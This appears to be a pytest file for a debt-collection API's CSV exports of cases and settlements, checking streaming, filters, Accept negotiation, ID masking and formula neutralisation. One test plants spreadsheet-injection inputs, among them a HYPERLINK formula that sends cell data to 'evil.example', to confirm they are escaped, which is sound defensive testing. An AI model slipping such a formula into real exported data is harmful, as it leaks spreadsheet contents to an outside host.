# SPDX-License-Identifier: MIT
"""The CSV exports (DESIGN.md, "Reading cases"): Accept: text/csv on
GET /v1/collection-cases and GET /v1/settlements, through the validating
proxy (`api`) and straight to the service (`direct`, for the raw bytes and
the chunked transfer). Parsed with Python's csv module."""
import csv
import datetime as dt
import io
import uuid

import pytest

from conftest import assert_problem, create_case, fnr, list_all, valid_case
from test_after_handoff import insert_settlement

CSV = {"Accept": "text/csv"}
CASE_COLUMNS = [
    "id", "status", "state", "stage", "agency_status", "service", "invoice_number", "your_reference",
    "agency_case_id", "issued_on", "due_on", "debtor_type", "customer_number", "debtor_name", "business_name",
    "org_number", "national_id", "date_of_birth", "email", "phone", "currency", "original", "paid", "credited",
    "remaining", "interest", "costs", "created_at", "updated_at", "submitted_at", "closed_at",
]
SETTLEMENT_COLUMNS = [
    "settlement_id", "agency_settlement_id", "settlement_date", "agency", "remittance_reference", "amount",
    "currency", "created_at", "allocation_id", "case_id", "invoice_number", "allocation_amount", "allocation_date",
]
PAGE = 500  # handlers/csv_export.h: CSV_EXPORT_PAGE
FNR = fnr(dt.date(1979, 5, 17), 222)


def parse(r, columns):
    """The rows of a CSV answer as dicts, after checking its type, header and line ends."""
    assert r.status_code == 200, r.text
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    body = r.content.decode("utf-8")
    assert body.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert rows[0] == columns
    assert all(len(row) == len(columns) for row in rows)
    return [dict(zip(columns, row)) for row in rows[1:]]


def cases_csv(client, tenant, query="", headers=CSV):
    return client.get("/v1/collection-cases" + ("?" + query if query else ""), tenant, headers=headers)


@pytest.fixture(scope="module")
def many(direct):
    """A tenant with more cases than one export page: PAGE + 21, created
    straight at the service (the create path is tested elsewhere)."""
    t = "t_csv_" + uuid.uuid4().hex[:8]
    direct.configure(t)
    for i in range(PAGE + 21):
        body = valid_case(f"BULK-{i:04d}")
        if i % 2:
            body["debtor"].update(customer_type="business", name=None, business_name=f"Firma {i} AS",
                                  org_number="923609016", date_of_birth=None)
        r = direct.post("/v1/collection-cases", t, json=body)
        assert r.status_code == 201, r.text
    return t


def test_every_case_beyond_one_page_newest_first(api, direct, many):
    rows = parse(cases_csv(api, many), CASE_COLUMNS)
    listing = list_all(api, many, "limit=200")
    assert len(rows) == PAGE + 21 == len(listing)
    assert [r["id"] for r in rows] == [c["id"] for c in listing]
    first, j = rows[0], listing[0]
    assert first["invoice_number"] == j["invoice"]["number"] == "BULK-0520"
    assert first["status"] == j["status"] and first["state"] == "open"
    assert first["currency"] == "NOK" and first["original"] == str(j["balance"]["original"])
    assert first["remaining"] == str(j["balance"]["remaining"]) and first["costs"] == str(j["balance"]["costs"])
    assert first["created_at"] == j["created_at"] and first["closed_at"] == ""
    assert first["phone"] == "'+4791234567"  # E.164 starts with +: neutralised like any formula
    r = cases_csv(direct, many)
    assert r.headers.get("Transfer-Encoding") == "chunked"
    assert r.content.count(b"\r\n") == PAGE + 22 and b"\n" not in r.content.replace(b"\r\n", b"")


def test_a_case_created_during_the_export_is_not_in_it(direct, many):
    r = direct.get("/v1/collection-cases", many, headers=CSV, stream=True)
    assert r.status_code == 200
    chunks = r.iter_content(chunk_size=4096)
    head = next(chunks)
    new = direct.post("/v1/collection-cases", many, json=valid_case("LATE-1"))
    assert new.status_code == 201, new.text
    body = (head + b"".join(chunks)).decode()
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert len(rows) == 1 + PAGE + 21
    assert new.json()["id"] not in body
    later = parse(cases_csv(direct, many, "invoice_number=LATE-1"), CASE_COLUMNS)
    assert [x["id"] for x in later] == [new.json()["id"]]


def test_a_client_leaving_midway_leaves_the_service_well(direct, many):
    for _ in range(3):
        r = direct.get("/v1/collection-cases", many, headers=CSV, stream=True)
        assert r.status_code == 200
        next(r.iter_content(chunk_size=1024))
        r.close()  # the response, sent or not, frees its export (the ASan build checks for leaks)
    assert len(parse(cases_csv(direct, many, "invoice_number=BULK-0001"), CASE_COLUMNS)) == 1


@pytest.mark.parametrize("query", [
    "debtor_type=business", "debtor_type=consumer&created_from=2000-01-01", "q=firma%201", "invoice_number=BULK-0007",
    "state=closed", "status=pending", "created_to=2000-01-01",
])
def test_filters_are_the_listings(api, many, query):
    rows = parse(cases_csv(api, many, query), CASE_COLUMNS)
    assert [r["id"] for r in rows] == [c["id"] for c in list_all(api, many, query + "&limit=200")]


def test_filters_apply_to_the_export(api, many):
    business = parse(cases_csv(api, many, "debtor_type=business"), CASE_COLUMNS)
    assert len(business) == (PAGE + 21) // 2 and {r["debtor_type"] for r in business} == {"business"}
    assert parse(cases_csv(api, many, "state=closed"), CASE_COLUMNS) == []
    one = parse(cases_csv(api, many, "invoice_number=BULK-0007"), CASE_COLUMNS)
    assert [(r["business_name"], r["debtor_name"]) for r in one] == [("Firma 7 AS", "")]


def test_national_id_masked_and_formulas_neutralised(api, tenant):
    a = valid_case("=1+2")
    a["debtor"].update(name='=HYPERLINK("http://evil.example/?"&A1,"click")', national_id=FNR,
                       date_of_birth="1979-05-17")
    a["your_reference"] = "@SUM(A1:A9)"
    b = valid_case("INV, \"quoted\"")
    b["debtor"].update(name="-Ærøskøbing\tÅse", email="åse@example.no")
    b["your_reference"] = "+x"
    ca, cb = create_case(api, tenant, a), create_case(api, tenant, b)
    r = cases_csv(api, tenant)
    assert FNR not in r.text and FNR[-7:] not in r.text
    rows = {x["id"]: x for x in parse(r, CASE_COLUMNS)}
    ra, rb = rows[ca["id"]], rows[cb["id"]]
    assert ra["national_id"] == "*******" + FNR[-4:] == ca["debtor"]["national_id"]
    assert ra["debtor_name"] == "'" + a["debtor"]["name"]
    assert ra["invoice_number"] == "'=1+2" and ra["your_reference"] == "'@SUM(A1:A9)"
    assert rb["national_id"] == "" and rb["invoice_number"] == 'INV, "quoted"'
    assert rb["debtor_name"] == "'-Ærøskøbing\tÅse" and rb["email"] == "åse@example.no"
    assert rb["your_reference"] == "'+x"
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in r.text  # quotes doubled, quoted


@pytest.mark.parametrize("accept, kind", [
    (None, "json"), ("*/*", "json"), ("application/json", "json"), ("text/html", "json"),
    ("text/csv", "csv"), ("text/*", "csv"), ("application/json;q=0.5, text/csv", "csv"),
    ("text/csv;q=0.5, application/json", "json"), ("text/csv, application/json", "json"),
])
def test_accept_picks_csv_only_when_it_ranks_above_json(api, tenant, accept, kind):
    r = cases_csv(api, tenant, headers={"Accept": accept} if accept else {})
    assert r.status_code == 200, r.text
    assert r.headers["Content-Type"].startswith("text/csv" if kind == "csv" else "application/json")
    assert r.headers["Vary"] == "Accept"  # on both: a cache must not hand CSV to a JSON client


@pytest.mark.parametrize("path", ["/v1/collection-cases", "/v1/settlements"])
def test_both_listings_say_vary_accept_on_json_and_csv(api, direct, many, path):
    """Through the validating proxy (the header is required there) and straight,
    on a JSON page and on the CSV (the cases' streamed over several pages,
    chunked); not on a problem, which no Accept chose."""
    for client in (api, direct):
        for headers, kind in (({}, "application/json"), (CSV, "text/csv")):
            r = client.get(path, many, headers=headers)
            assert r.status_code == 200, r.text
            assert r.headers["Content-Type"].startswith(kind)
            assert r.headers["Vary"] == "Accept", (path, kind, dict(r.headers))
    r = direct.get(path + "?limit=0", many)
    assert r.status_code == 400 and "Vary" not in r.headers


@pytest.mark.parametrize("query, param", [
    ("limit=10", "limit"), ("cursor=abc", "cursor"), ("status=nope", "status"),
    ("created_from=2026-02-30", "created_from"),
])
def test_bad_or_paging_parameters_with_csv_are_400(api, tenant, query, param):
    r = cases_csv(api, tenant, query)
    assert assert_problem(r, 400, "invalid_parameter")["parameter"] == param


def test_empty_export_is_the_header_alone(api, tenant):
    r = cases_csv(api, tenant, "state=closed&status=open")
    assert parse(r, CASE_COLUMNS) == [] and r.text == ",".join(CASE_COLUMNS) + "\r\n"


# --- settlements --------------------------------------------------------------

@pytest.fixture
def settled(api, tenant, service):
    case = create_case(api, tenant)
    ids = {
        "mar02": insert_settlement(service, tenant, "STL-1", "2026-03-02", [("AL-1", case["id"], 25000),
                                                                             ("AL-2", None, 1000)]),
        "mar09": insert_settlement(service, tenant, "=STL-2", "2026-03-09", []),
        "mar16": insert_settlement(service, tenant, "STL-3", "2026-03-16", [("AL-3", case["id"], 500)]),
    }
    return tenant, case, ids


def settlements(client, tenant, query="", headers=None):
    return client.get("/v1/settlements" + ("?" + query if query else ""), tenant, headers=headers or {})


def test_settlements_csv_one_row_per_allocation(api, settled):
    tenant, case, ids = settled
    rows = parse(settlements(api, tenant, headers=CSV), SETTLEMENT_COLUMNS)
    assert [(r["settlement_id"], r["allocation_id"]) for r in rows] == [
        (ids["mar16"], "AL-3"), (ids["mar09"], ""), (ids["mar02"], "AL-1"), (ids["mar02"], "AL-2")]
    assert rows[1]["agency_settlement_id"] == "'=STL-2" and rows[1]["allocation_amount"] == ""
    assert rows[2]["case_id"] == case["id"] and rows[2]["allocation_amount"] == "25000"
    assert rows[2]["amount"] == "26000" and rows[2]["currency"] == "NOK"
    assert rows[3]["case_id"] == "" and rows[3]["settlement_date"] == "2026-03-02"


@pytest.mark.parametrize("query, want", [
    ("settled_from=2026-03-09", ["mar16", "mar09"]),
    ("settled_to=2026-03-09", ["mar09", "mar02"]),
    ("settled_from=2026-03-03&settled_to=2026-03-15", ["mar09"]),
    ("settled_from=2026-03-16&settled_to=2026-03-16", ["mar16"]),
    ("settled_from=2026-04-01", []),
])
def test_settled_from_and_to_on_json_and_csv(api, settled, query, want):
    tenant, _, ids = settled
    r = settlements(api, tenant, query)
    assert r.status_code == 200, r.text
    assert [s["id"] for s in r.json()["data"]] == [ids[w] for w in want]
    rows = parse(settlements(api, tenant, query, CSV), SETTLEMENT_COLUMNS)
    assert list(dict.fromkeys(r["settlement_id"] for r in rows)) == [ids[w] for w in want]


def test_settled_range_pages_in_json(api, settled):
    tenant, _, ids = settled
    page = settlements(api, tenant, "settled_from=2026-03-02&limit=2").json()
    assert [s["id"] for s in page["data"]] == [ids["mar16"], ids["mar09"]] and page["has_more"]
    page = settlements(api, tenant, "settled_from=2026-03-02&limit=2&cursor=" + page["next_cursor"]).json()
    assert [s["id"] for s in page["data"]] == [ids["mar02"]] and not page["has_more"]


@pytest.mark.parametrize("query, param", [
    ("settled_from=2026-13-01", "settled_from"), ("settled_to=yesterday", "settled_to"),
    ("settled_from=2026-03-10&settled_to=2026-03-09", "settled_to"),
    ("settled_from=2026-03-01&settled_from=2026-03-02", "settled_from"),
])
def test_bad_settled_dates_are_400(api, tenant, query, param):
    for headers in (None, CSV):
        r = settlements(api, tenant, query, headers)
        assert assert_problem(r, 400, "invalid_parameter")["parameter"] == param


def test_settlements_csv_takes_no_limit(api, tenant):
    r = settlements(api, tenant, "limit=5", CSV)
    assert assert_problem(r, 400, "invalid_parameter")["parameter"] == "limit"
    r = settlements(api, tenant, headers=CSV)
    assert parse(r, SETTLEMENT_COLUMNS) == []
